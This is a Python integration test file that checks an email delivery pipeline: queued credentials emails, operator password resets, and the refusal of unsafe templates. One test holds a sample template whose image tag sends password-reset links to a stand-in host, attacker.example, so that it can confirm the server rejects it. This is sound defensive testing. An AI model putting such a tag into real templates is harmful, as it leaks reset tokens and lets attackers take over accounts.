"""Emails leave through the queue: request → SQS → sender → emulated SES → /_local/emails."""

from __future__ import annotations

import re
import time

from tests.integration.clients import STRONG_PASSWORD, assert_problem, path

# generate_password(): 5 groups of 5 letters/digits joined by dashes.
GENERATED_PASSWORD = re.compile(r"\b[A-Za-z0-9]{5}(?:-[A-Za-z0-9]{5}){4}\b")

DELIVERY_TIMEOUT_SECONDS = 10


def _emails_to(api, address: str) -> list[dict]:
    emails = api.get("/_local/emails").json()
    return [e for e in emails if (e["to"] or "").lower() == address.lower()]


def _wait_for_email(api, address: str) -> dict:
    deadline = time.monotonic() + DELIVERY_TIMEOUT_SECONDS
    while time.monotonic() < deadline:
        found = _emails_to(api, address)
        if found:
            return found[-1]
        time.sleep(0.2)
    raise AssertionError(f"no email to {address} within {DELIVERY_TIMEOUT_SECONDS}s")


def test_credentials_email_is_queued_then_sent(api, local_stack):
    customer, account = api.customer_with_account()
    username = account["username"]
    assert _emails_to(api, username) == []

    response = api.post(f"/operator/customers/{customer['customer_id']}/account/credentials-email")
    assert response.status_code == 202, response.text
    assert response.json()["status"] == "queued"

    email = _wait_for_email(api, username)
    assert email["subject"]
    assert username in email["text"]
    assert email["html"].lstrip().lower().startswith("<!doctype html")
    # Links point at STOREFRONT_BASE_URL, which locally is the stack itself.
    assert f"{local_stack}/reset-password?token=" in email["text"]
    assert email["sent_at"]

    # F15: the account's email log says sent, and never holds the body.
    deadline = time.monotonic() + DELIVERY_TIMEOUT_SECONDS
    while True:
        log = api.get(f"/operator/accounts/{path(username)}/emails")
        assert log.status_code == 200
        items = log.json()["items"]
        if (items and items[0]["status"] == "sent") or time.monotonic() > deadline:
            break
        time.sleep(0.2)
    assert items[0]["template_id"] == "account_credentials"
    assert items[0]["status"] == "sent"
    assert "text" not in items[0] and "html" not in items[0]


def test_an_operator_reset_emails_a_password_made_at_send_time(api, anonymous):
    customer, account = api.customer_with_account()
    username = account["username"]
    response = api.post(f"/operator/customers/{customer['customer_id']}/account/password-reset")
    assert response.status_code == 202, response.text
    # The old password stops at once, before any email goes out.
    old = anonymous.post("/auth/login", json={"username": username, "password": STRONG_PASSWORD})
    assert old.status_code == 401

    email = _wait_for_email(api, username)
    [password] = set(GENERATED_PASSWORD.findall(email["text"]))
    login = anonymous.post("/auth/login", json={"username": username, "password": password})
    assert login.status_code == 200, login.text
    assert login.json()["password_change_required"] is True


def test_unsafe_templates_are_refused_and_the_preview_allows_no_script(api):
    # A draft that would hand every reset token to another site: refused, nothing saved.
    draft = {
        "subject": "Reset",
        "text": "{{ link }}",
        "html": '<a href="{{ link }}">x</a><img src="https://attacker.example/p?l={{ link }}">',
    }
    refused = api.put("/operator/templates/password_reset_link/en", json=draft)
    assert_problem(refused, 422)
    assert {e["field"] for e in refused.json()["errors"]} == {"html"}
    subject = api.post(
        "/operator/templates/password_reset_link/en/preview", json={"subject": "{{ link }}"}
    )
    assert_problem(subject, 422)
    assert subject.json()["errors"] == [
        {"field": "subject", "reason": "{{ link }} is not allowed in the subject"}
    ]

    preview = api.post("/operator/templates/password_reset_link/en/preview", json={})
    assert preview.status_code == 200, preview.text
    policy = preview.headers["Content-Security-Policy"]
    assert policy.startswith("default-src 'none'; ") and "script-src" not in policy
    assert "<script" not in preview.json()["html"]
